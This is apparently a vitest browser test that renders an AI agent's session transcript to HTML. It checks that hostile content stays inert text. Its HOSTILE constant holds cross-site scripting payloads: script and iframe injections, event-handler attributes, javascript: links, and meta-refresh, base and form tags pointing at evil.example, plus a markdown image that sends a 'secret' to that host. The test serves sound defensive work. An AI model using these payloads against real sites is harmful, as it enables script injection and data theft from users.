// An exported transcript in a real browser: a hostile agent's content stays text, and the page runs and fetches
// nothing.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { HTML_END, htmlHead, htmlOf, type TranscriptEntry } from '@quayside/protocol'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openPage, SCREENS } from './test-browser.js'

const HOSTILE = [
  '<script>alert(1)</script></style></title><img src=x onerror=alert(2)>',
  '</div></section><iframe srcdoc="<script>alert(3)</script>"></iframe><svg onload=alert(4)>',
  '![x](https://evil.example/?q=secret) [click](javascript:alert(5)) https://evil.example/"onclick="alert(6)',
  '<meta http-equiv=refresh content="0;url=https://evil.example"><base href=//evil.example>',
  '```html\n</code></pre><object data=//evil.example></object>\n```\n<form action=//evil.example><input autofocus onfocus=alert(7)>',
].join('\n')

const timestamp = '2026-01-17T05:00:00.000Z'
const ENTRIES: readonly TranscriptEntry[] = [
  { role: 'user', text: HOSTILE, by: HOSTILE, timestamp },
  { role: 'reasoning', text: HOSTILE, timestamp },
  { role: 'assistant', text: HOSTILE, timestamp },
  {
    role: 'attachment',
    attachment: { type: 'image', mimeType: HOSTILE, url: '/x.png' },
    timestamp,
  },
  { role: 'attachment', attachment: { type: 'resource', uri: HOSTILE, text: HOSTILE }, timestamp },
  {
    role: 'command',
    command: HOSTILE,
    output: HOSTILE,
    status: HOSTILE,
    kind: 'execute',
    diffs: [{ path: HOSTILE, oldText: 'a\nb\n', newText: `a\n${HOSTILE}\n` }],
    timestamp,
  },
  { role: 'plan', entries: [{ content: HOSTILE, status: HOSTILE }], timestamp },
  {
    role: 'permission',
    title: HOSTILE,
    options: [],
    outcome: 'selected',
    option: HOSTILE,
    timestamp,
  },
  { role: 'status', status: 'error', error: { code: 'x', message: HOSTILE }, timestamp },
  { role: 'error', text: HOSTILE, code: HOSTILE, timestamp },
]

let folder: string
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'quayside-page-'))
})
afterAll(() => rmSync(folder, { recursive: true, force: true }))

test.each(['light', 'dark'] as const)(
  'a hostile session is text in a %s page',
  async (colorScheme) => {
    const path = join(folder, `${colorScheme}.html`)
    const body = ENTRIES.map((entry) => htmlOf(entry)).join('')
    writeFileSync(
      path,
      htmlHead({ sessionId: 'f00', title: HOSTILE, agent: HOSTILE }) + body + HTML_END,
    )
    const { page, faults } = await openPage('null', { ...SCREENS.desktop, colorScheme })
    const dialogs: string[] = []
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    await page.goto(pathToFileURL(path).href, { waitUntil: 'load' })
    await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)))

    const found = await page.evaluate(() => {
      const all = [...document.querySelectorAll('*')]
      return {
        tags: [...new Set(all.map(({ localName }) => localName))].toSorted(),
        handlers: all
          .flatMap(({ attributes }) => [...attributes].map(({ name }) => name))
          .filter((name) => name.startsWith('on')),
        links: [...document.links].map(({ href, rel }) => `${rel} ${new URL(href).protocol}`),
        said: [...document.querySelectorAll('.text')].map(({ textContent }) => textContent),
        isWide: document.documentElement.scrollWidth > innerWidth,
        ground: getComputedStyle(document.body).backgroundColor,
      }
    })
    expect(
      found.tags.filter((tag) => /^(?:script|iframe|svg|img|object|form|input|base)$/.test(tag)),
    ).toEqual([])
    expect(found.handlers).toEqual([])
    expect(new Set(found.links)).toEqual(new Set(['noopener noreferrer nofollow https:']))
    expect(found.said).toEqual(Array.from({ length: 4 }, () => HOSTILE))
    expect(found.isWide).toBe(false)
    expect(found.ground).toBe(colorScheme === 'dark' ? 'rgb(20, 24, 30)' : 'rgb(255, 255, 255)')
    expect(dialogs).toEqual([])
    expect(faults).toEqual([])
  },
)
